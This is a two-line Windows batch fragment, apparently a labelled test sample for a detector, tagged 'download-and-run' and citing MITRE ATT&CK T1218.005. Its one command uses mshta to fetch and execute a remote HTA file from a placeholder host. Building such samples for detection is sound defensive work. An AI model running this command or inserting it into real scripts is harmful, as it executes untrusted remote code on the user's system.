@rem expect: download-and-run | source: MITRE ATT&CK T1218.005
mshta http://files.example.invalid/a.hta
